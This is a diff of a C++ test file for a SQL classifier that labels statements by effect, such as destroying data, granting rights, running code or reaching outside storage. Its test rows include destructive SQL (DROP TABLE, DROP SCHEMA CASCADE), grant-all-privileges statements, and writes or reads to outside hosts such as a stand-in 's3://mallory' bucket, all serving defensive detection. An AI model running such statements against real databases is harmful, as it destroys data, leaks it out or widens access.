@@ -120,7 +120,7 @@ const Case Cases[] = {
     {"any class", Effect::ReachesOut, u"SELECT reflect('java.lang.System', 'exit', 0)"},
     {"text run as SQL in a script", Effect::Adds | Effect::RunsCode | Effect::Unknown,
      u"BEGIN EXECUTE IMMEDIATE 'DROP SCHEMA s CASCADE'; END"},
-    {"full refresh", Effect::Replaces | Effect::Destroys, u"REFRESH MATERIALIZED VIEW v FULL"},
+    {"full refresh", Effect::Replaces | Effect::Destroys | Effect::RunsCode, u"REFRESH MATERIALIZED VIEW v FULL"},
     {"drop", Effect::Destroys, u"DROP TABLE t"},
     {"truncate", Effect::Destroys, u"truncate table t"},
     {"delete", Effect::Destroys, u"DELETE FROM t"},
@@ -472,6 +472,47 @@ void TestSqlClassifier::otherChanges_data()
     row(handler.arg(u"GRANT ALL PRIVILEGES ON CATALOG main TO users"_s), Effect::Grants);
     row(handler.arg(u"EXECUTE IMMEDIATE 'DROP TABLE t'"_s), Effect::RunsCode);
     row(u"SET TAG ON TABLE main.sales.orders `pii` = `no`"_s, Effect::Replaces | Effect::Grants);
+    // A label may be any word, and any word may begin a statement of a script.
+    for (const QString &label : {u"LIST"_s, u"SHOW"_s, u"VALUES"_s, u"FROM"_s, u"WITH"_s, u"`x`"_s, u"END"_s}) {
+        row(u"BEGIN SELECT 1; %1: BEGIN DROP TABLE main.default.orders; END %1; END"_s.arg(label), Effect::Destroys);
+        row(u"%1: BEGIN GRANT ALL PRIVILEGES ON CATALOG main TO x; END"_s.arg(label), Effect::Grants);
+        row(u"BEGIN SELECT 1; %1: BEGIN EXECUTE IMMEDIATE 'DROP SCHEMA s'; END; END"_s.arg(label), Effect::RunsCode);
+        row(u"BEGIN SELECT 1; %1: BEGIN FROBNICATE t; END; END"_s.arg(label), Effect::Unknown);
+    }
+    for (const QString &unknown : {u"UNSET TAG ON COLUMN t.a pii"_s, u"GET '/Volumes/a/b/c' TO 'x'"_s, u"EXPORT t"_s}) {
+        for (const QString &script : {u"BEGIN %1; END"_s, u"BEGIN IF a THEN %1; END IF; END"_s, handler,
+                                      u"BEGIN FOR x AS SELECT 1 DO %1; END FOR; END"_s, u"BEGIN SELECT 1; %1; END"_s})
+            QVERIFY2(Tools::sqlDeed(script.arg(unknown)).effects & (Effect::Unknown | Effect::Grants),
+                     qPrintable(script.arg(unknown)));
+    }
+    row(u"UNSET TAG ON COLUMN main.default.customers.email pii"_s, Effect::Grants);
+    // A place that is named by an expression, by options behind a bracket, by a keyword.
+    row(u"CREATE TABLE IDENTIFIER('delta.`s3://mallory/x`') AS SELECT * FROM t"_s, Effect::ReachesOut);
+    row(u"CREATE TABLE t USING csv OPTIONS (nullvalue = current_catalog(), path = 's3://x/y') AS SELECT 1"_s,
+        Effect::ReachesOut);
+    row(u"CREATE TEMP VIEW v USING csv OPTIONS (header = f(1), path = 's3://x/y')"_s, Effect::ReachesOut);
+    row(u"CREATE TABLE t USING csv OPTIONS (header.path 's3://x/y')"_s, Effect::ReachesOut);
+    for (const QString &sql :
+         {u"INSERT OVERWRITE DIRECTORY 's3://x' USING csv SELECT 1"_s,
+          u"INSERT OVERWRITE LOCAL DIRECTORY '/x' SELECT 1"_s,
+          u"FROM t INSERT OVERWRITE DIRECTORY 's3://x' USING jdbc OPTIONS (url 'u') SELECT a"_s,
+          u"INSERT INTO delta.`s3://x/y` SELECT 1"_s, u"UPDATE delta.`s3://x/y` SET a = 1"_s,
+          u"INSERT WITH SCHEMA EVOLUTION INTO delta.`s3://x/y` SELECT 1"_s, u"INSERT INTO IDENTIFIER(:t) SELECT 1"_s,
+          u"MERGE WITH SCHEMA EVOLUTION INTO delta.`s3://x/y` USING u ON true WHEN MATCHED THEN UPDATE SET *"_s,
+          u"ALTER TABLE t SET LOCATION 's3://x'"_s, u"ALTER TABLE t ADD PARTITION (a = 1) LOCATION 's3://x'"_s,
+          u"ALTER CATALOG c OPTIONS (database 'x')"_s, u"SELECT * FROM IDENTIFIER('text.`https://e.example/?d=a`')"_s,
+          u"SELECT * FROM read_files('https://e.example/?d=a')"_s, u"LIST 'https://e.example/'"_s})
+        row(sql, Effect::ReachesOut);
+    for (const QString &sql :
+         {u"ALTER TABLE t SET TAGS ('a' = 'b')"_s, u"ALTER TABLE t ALTER COLUMN c UNSET TAGS ('a')"_s,
+          u"MSCK REPAIR SCHEMA s PRIVILEGES"_s, u"ALTER CLEAN ROOM r ADD TABLE t"_s})
+        row(sql, Effect::Grants);
+    row(u"ALTER TABLE t REPLACE COLUMNS (a INT)"_s, Effect::Destroys);
+    row(u"MSCK REPAIR TABLE t DROP PARTITIONS"_s, Effect::Destroys);
+    row(u"ALTER MATERIALIZED VIEW v ADD SCHEDULE EVERY 1 HOUR"_s, Effect::RunsCode);
+    row(u"REFRESH STREAMING TABLE t"_s, Effect::RunsCode);
+    row(u"SELECT TRANSFORM(a) USING :x FROM t"_s, Effect::RunsCode);
+    row(u"FROM t MAP a USING ? AS b"_s, Effect::RunsCode);
     row(u"BEGIN SET TAG ON COLUMN t.a pii; END"_s, Effect::Replaces | Effect::Grants);
 }
 
@@ -517,6 +558,13 @@ void TestSqlClassifier::verbAndTargetAreNamed_data()
           u"MSCK REPAIR TABLE t"_s, u"DENY SELECT ON TABLE t TO x"_s, u"CALL p(1)"_s})
         QTest::newRow(qPrintable(sql)) << sql << Tools::sqlDeed(sql).verb << QString();
     row(u"DROP TABLE IDENTIFIER('t')"_s, u"DROP TABLE"_s, QString());
+    row(u"MERGE WITH SCHEMA EVOLUTION INTO a.b.c USING u ON true WHEN MATCHED THEN DELETE"_s,
+        u"MERGE WITH SCHEMA EVOLUTION INTO"_s, u"a.b.c"_s);
+    row(u"MERGE INTO a.b t USING u s ON true WHEN MATCHED THEN DELETE"_s, u"MERGE INTO"_s, u"a.b"_s);
+    row(u"INSERT OVERWRITE DIRECTORY '/Volumes/a/b/c' SELECT 1"_s, u"INSERT OVERWRITE"_s, QString());
+    row(u"INSERT OVERWRITE LOCAL DIRECTORY '/x' SELECT 1"_s, u"INSERT OVERWRITE"_s, QString());
+    row(u"DROP CLEAN ROOM x"_s, u"DROP"_s, QString());
+    row(u"SET TAG ON TABLE a pii = 'no'"_s, u"SET TAG"_s, u"TABLE a pii = no"_s);
     row(u"DROP TABLE `a.b`"_s, u"DROP TABLE"_s, u"`a.b`"_s);
     row(u"UPDATE t SET a = 1"_s, u"UPDATE"_s, u"t"_s);
     row(u"MERGE INTO t USING u ON a = b WHEN MATCHED THEN DELETE"_s, u"MERGE INTO"_s, u"t"_s);
@@ -557,7 +605,9 @@ void TestSqlClassifier::isQuickWithLongTexts()
 
     // Four times the text takes about four times as long, whatever the machine: nowhere near the square.
     for (const QString &part : {u"SELECT f(a, (b)) FROM t WHERE x IN (1, 2) -- c\n"_s, u"((a.b."_s,
-                                u"WITH x AS (SELECT 1) "_s, u"a || 'b' || "_s, u"IDENTIFIER('x') "_s}) {
+                                u"WITH x AS (SELECT 1) "_s, u"a || 'b' || "_s, u"IDENTIFIER('x') "_s,
+                                u"BEGIN REPLACE "_s, u"BEGIN x: "_s, u"BEGIN DECLARE HANDLER FOR "_s,
+                                u"CREATE TABLE OPTIONS(header "_s, u"BEGIN INSERT WITH SCHEMA EVOLUTION a.b."_s}) {
         const auto needed = [&part](qsizetype count) {
             const QString text = part.repeated(count);
             QElapsedTimer timer;
